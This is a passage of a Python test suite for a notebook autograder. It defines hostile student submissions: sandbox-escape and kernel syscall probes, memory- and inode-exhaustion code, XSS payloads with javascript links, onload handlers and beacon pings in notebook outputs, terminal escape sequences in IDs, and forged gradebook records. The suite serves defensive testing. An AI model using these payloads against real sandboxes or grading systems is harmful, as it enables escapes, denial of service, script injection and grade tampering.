            ("whole numbers with one hash", "return {i * (2**61 - 1): 0 for i in range(500)}"),
            ("fractions with one hash", "return {2.0 ** (61 * i): 0 for i in range(-10, 15)}"),
            ("tuples with one hash", "return {(i * (2**61 - 1),): 0 for i in range(500)}"),
            ("long whole numbers", "return [2 ** 7000 + i for i in range(15_000)]"),
        )
    ],
    accident(
        59,
        "slow to decode",
        "60,000 whole numbers as output",
        last=[
            """
        from IPython.display import publish_display_data
        publish_display_data({"application/json": [2**70 + i for i in range(20_000)]})
        """
        ],
        plain=False,
    ),
    *[
        attack(33, "another file", variant, prepare=instead_of_the_notebook(make), reason=reason, plain=False)
        for variant, make, reason in (
            ("ZIP", lambda path, world: path.write_bytes(b"PK\x03\x04 homework"), "it is a ZIP archive"),
            (
                "ZIP with its name",
                lambda path, world: path.with_suffix(".zip").write_bytes(b"PK\x03\x04"),
                "a ZIP archive",
            ),
            ("web page", lambda path, world: path.write_bytes(b"<!DOCTYPE html><html>"), "a web page"),
            (
                "script",
                lambda path, world: path.with_suffix(".py").write_text("import numpy as np\n"),
                "a Python script",
            ),
            ("pipe", lambda path, world: os.mkfifo(path), "not an ordinary file"),
        )
    ],
    accident(
        63,
        "links",
        "a second name",
        prepare=lambda folder, world: (folder / "a.txt").hardlink_to(next(folder.glob("*.ipynb"))),
        reason="hard links",
        plain=False,
    ),
]

# What the sandbox holds back.
SANDBOX: list[Attack] = [
    attack(
        64,
        "kernel",
        "keyrings",
        first=[
            """
        @CONTAINED@
        import ctypes
        libc = ctypes.CDLL(None)
        for keyring in (-1, -2, -3, -4, -5):  # of the thread, the process, the session, the user
            if libc.syscall(248, b"user", b"@TRACE@", b"x", 1, keyring) > 0 or libc.syscall(250, 0, keyring, 1) > 0:
                print("SURVIVED")
        """
        ],
        plain=False,
    ),
    attack(
        64,
        "kernel",
        "calls that nobody needs",
        body="""
        @CONTAINED@
        import ctypes, mmap
        libc = ctypes.CDLL(None)
        room = ctypes.create_string_buffer(4096)
        for number in (321, 425, 298, 323, 319, 447, 29, 64, 68, 303, 300, 272, 308):  # bpf, io_uring_setup, …
            if libc.syscall(number, 0, room, 0x380, 0, 0) >= 0:
                print("SURVIVED")
        if libc.syscall(56, 0x10000011, 0, 0, 0, 0) == 0:
            print("SURVIVED")
        """,
        plain=False,
    ),
    *(
        attack(64, "kernel", f"memory in {variant}", first=[f"@CONTAINED@\n{clean(code)}"], reason=reason, plain=False)
        for variant, code, reason in (
            (
                "socket buffers",
                """
                import os, socket, time
                kept = []
                for i in range(40):
                    if os.fork() == 0:
                        try:
                            while True:
                                kept += socket.socketpair()
                                kept[-1].setblocking(False)
                                kept[-1].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22) if len(kept) > 200 else 0
                                kept[-1].send(b"x" * 200_000)
                        except OSError:
                            time.sleep(60)
                time.sleep(60)
                print("SURVIVED")
                """,
                "took too much memory",
            ),
            (
                "many files without a name",
                """
                import os
                for i in range(100):
                    os.write(os.memfd_create("x"), b"x" * 10_000_000)
                    print("SURVIVED")
                """,
                None,
            ),
            (
                "pages that are in no process",
                """
                import mmap
                kept = mmap.mmap(-1, 500_000_000)
                for i in range(0, len(kept), 10_000_000):
                    kept[i : i + 10_000_000] = b"x" * 10_000_000
                    kept.madvise(mmap.MADV_DONTNEED)
                print("SURVIVED")
                """,
                None,
            ),
            (
                "zeros that are shared",
                """
                import mmap, os
                kept = mmap.mmap(os.open("/dev/zero", os.O_RDWR), 100_000_000)
                print("SURVIVED")
                """,
                None,
            ),
            (
                "segments of System V",
                """
                import ctypes
                if ctypes.CDLL(None).shmget(0, 2_000_000_000, 0o1600) >= 0:
                    print("SURVIVED")
                """,
                None,
            ),
            (
                "inodes",
                """
                import os
                for i in range(60_000):
                    os.symlink("x" * 50, f"{i:0200}")
                print("SURVIVED")
                """,
                None,
            ),
        )
    ),
    attack(
        64,
        "kernel",
        "locks of parts of a file",
        last=[
            """
        import fcntl
        with open("parts", "wb") as parts:
            for start in range(0, 10**8, 2):
                fcntl.lockf(parts, fcntl.LOCK_EX, 1, start)
        print("SURVIVED")
        """
        ],
    ),
    accident(
        64,
        "kernel",
        "databases and locks",
        first=[
            """
        import fcntl, h5py, sqlite3
        with sqlite3.connect("marks.db") as book:
            book.execute("CREATE TABLE marks (points)")
            book.execute("INSERT INTO marks VALUES (7)")
        with h5py.File("marks.h5", "w") as file:
            file["points"] = 7
        with open("marks.db", "rb+") as file:
            fcntl.lockf(file, fcntl.LOCK_EX)
            fcntl.flock(file, fcntl.LOCK_EX)
        worked = h5py.File("marks.h5")["points"][()] == sqlite3.connect("marks.db").execute("SELECT * FROM marks").fetchone()[0]
        """
        ],
        cells=instead("layer_sizes", "return worked and right_layer_sizes(*args, **kwargs)"),
    ),
    accident(
        64,
        "kernel",
        "pools of processes and sockets",
        first=[
            """
        import asyncio, multiprocessing
        from concurrent.futures import ProcessPoolExecutor
        await asyncio.sleep(0)
        with ProcessPoolExecutor(2) as pool:
            assert list(pool.map(abs, [-1, -2])) == [1, 2]
        with multiprocessing.Pool(2) as pool:
            assert pool.map(abs, [-1, -2]) == [1, 2]
        worked = True
        """
        ],
        cells=instead("layer_sizes", "return worked and right_layer_sizes(*args, **kwargs)"),
    ),
]

# What lands in pages, notebooks, terminals and spreadsheets.
SHOWN: list[Attack] = [
    script("markdown html", change=with_cell(HTML)),
    script("markdown links and formulas", change=with_cell(MARKDOWN)),
    script("markdown out of its fence", change=with_cell(OUT_OF_A_FENCE)),
    script("raw cell", change=with_cell(HTML, new_raw_cell)),
    script("text of the release", change=in_the_release),
    script("attachments and metadata", change=in_metadata),
    script("output html", last=[shows({"text/html": HTML})]),
    script(
        "output html that is well-formed",
        last=[
            shows(
                {
                    "text/html": f"<p>{FORMULA}</p><a href='javascript:window.pwned=1'>x</a>"
                    f"<a href='//127.0.0.1:@PORT@/beacon' ping='{BEACON}'>x</a><a href='/formgrader/api/x'>x</a>"
                    f"<img src='{BEACON}'><p onclick='pwned=1' style='position:fixed'>x</p>"
                }
            )
        ],
    ),
    script(
        "outputs of other kinds",
        last=[
            shows({"text/markdown": HTML + MARKDOWN}),
            shows({"image/svg+xml": HTML, "text/plain": "x"}),
            shows({"application/javascript": RUNS}),
            shows({"text/latex": FORMULA}),
            shows(
                {"application/vnd.jupyter.widget-view+json": {"model_id": HTML}, "application/geo+json": {"x": HTML}}
            ),
        ],
    ),
    script(
        "output metadata",
        last=[
            shows(
                {"image/png": POINT, "text/plain": HTML},
                {
                    "image/png": {
                        "width": f'"><script>{RUNS}</script>',
                        "alt": f'" onload="{RUNS}',
                        "unconfined": HTML,
                    },
                    "isolated": True,
                },
            )
        ],
    ),
    script(
        "output pictures",
        last=[
            shows({"image/png": f'{POINT}" onload="window.pwned=1'}),
            shows({"image/jpeg": HTML}),
            shows({"image/png": ["x", HTML]}),
        ],
    ),
    script(
        "names of errors",
        body=f"raise type({HTML!r}, (Exception,), {{}})({HTML + FORMULA!r})",
        last=[
            f"raise type({HTML!r}, (Exception,), {{}})({HTML!r})",
            f"raise ValueError({MARKDOWN!r})",
            f"print({HTML!r})\nprint('\\x1b]8;;javascript:window.pwned=1\\x07click\\x1b]8;;\\x07 \\x1b[31;<b>x')",
        ],
    ),
    attack(60, "html", "nested too deep", last=[shows({"text/html": "<b>"}).replace("'<b>'", "'<b>' * 22_000")]),
    attack(
        60,
        "html",
        "closed elsewhere",
        last=[shows({"text/html": "<b>"}).replace("'<b>'", "'''<b><i title=\"</i></b>\"><p>''' * 6000")],
    ),
    *(
        attack(59, "outputs", variant, last=[f"get_ipython().outputs.extend({outputs})"])
        for variant, outputs in (
            ("nothing that is one", "[None, 1, 'x', [], {}, {1: 2}, {'output_type': []}, 2**80]"),
            (
                "fields of other kinds",
                "[{'output_type': kind, 'name': 'stdout', **dict.fromkeys(('text', 'data', 'ename', 'evalue', 'metadata'), 2**80)} "
                "for kind in ('stream', 'error', 'display_data', 'execute_result', 2**80)]",
            ),
            (
                "bundles of other kinds",
                "[{'output_type': 'display_data', 'data': {'text/plain': 2**80, 'text/html': {}, 'image/png': [2**80], 3: 4}}]",
            ),
            ("many", "[{'output_type': 'stream', 'name': 'stdout', 'text': 'x'}, {'output_type': 'x'}] * 4000"),
        )
    ),
    attack(
        59,
        "outputs",
        "short big numbers",
        last=[
            """
        import msgpack
        from autograder.inside import wire
        usual = wire._extension
        def short(value):
            return msgpack.ExtType(3, b"\\xff" * 9 + b"\\0") if isinstance(value, int) else usual(value)
        wire._extension = short
        get_ipython().outputs.extend([2**72] * 60_000)
        """
        ],
    ),
    accident(
        62,
        "shown",
        "ordinary outputs",
        last=[
            shows({"text/html": '<table border="1"><tr><td>cell of a table</td></tr></table>', "text/plain": "table"}),
            "print('ordinary text')\n'a value'",
            "import matplotlib.pyplot as plt\nplt.plot([1, 2]);",
        ],
        change=with_cell("# A note of my own\n\nwith *emphasis*"),
    ),
]

# Gradebook and marks.
BOOKS: list[Attack] = [
    *[
        accident(65, "id", name, plain=False)
        for name in (
            "red\x1b[31m",
            "title\x1b]0;x\x07",
            "back\r65",
            "two\nlines",
            "left\u202eright",
            "c1\x9b2J",
            "[a]=1+1",
        )
    ],
    accident(70, "misspelt", "twice", prepare=lambda folder, world: (folder.parent / f"{folder.name} ").mkdir()),
    attack(15, "gradebook", "a forged record", change=lambda notebook, world: forged_record(notebook)),
    attack(15, "gradebook", "forged points", change=lambda notebook, world: forged_points(notebook)),
    attack(15, "gradebook", "one of its own", files={"gradebook.db": b"SQLite format 3\0" + b"\0" * 100}),
]

ATTACKS = sorted(ROWS + OWN + TAKEN + KEPT + INTAKE + SANDBOX + SHOWN + BOOKS, key=lambda attack: attack.student)

# The class that they are handed in with.

HONEST = ("00-honest-", "25z-honest-", "99-honest-")  # first, in the middle and last
LIMITS = "limits = { cell = 2, call = 1, submission = 15, memory = 1024, total_memory = 1200, disk = 60, output = 0.2 }"
OTHER = "SECRET-0123456789abcdef"  # planted in an honest submission


def set_limits(course: Course, id: str) -> None:
    path = course.root / "syllabus.toml"
    entry = f'id = "{id}"\n'
    path.write_text(path.read_text(encoding="utf-8").replace(entry, entry + LIMITS + "\n"), encoding="utf-8")


def hand_in_honest(course: Course, id: str, world: World, grader: Grader) -> None:
    """A right, a wrong and an untouched submission at each place."""
    exercise = grader.assignment.exercises["compute_cost"]
    (mistake,) = (m for m in exercise.known_mistakes if m.name == "sum instead of mean")
    note = new_markdown_cell(f"My own notes: {OTHER}", id="my-notes")  # not random: files are compared
    for place in HONEST:
        for name, cells in (
            ("reference", world.solutions),
            ("mistake", grader.mistake_cells(exercise, mistake)),
            ("untouched", {}),
        ):
            notebook = filled(world.release, cells)
            notebook.cells.append(note)
            path = course.submitted / f"{place}{name}" / id / f"{id}.ipynb"
            path.parent.mkdir(parents=True)
            nbformat.write(notebook, path)


def hand_in_attacks(course: Course, id: str, world: World, attacks: Sequence[Attack] = ATTACKS) -> None:
    for attack in attacks:
        attack.hand_in(course.submitted / attack.student / id, id, world)
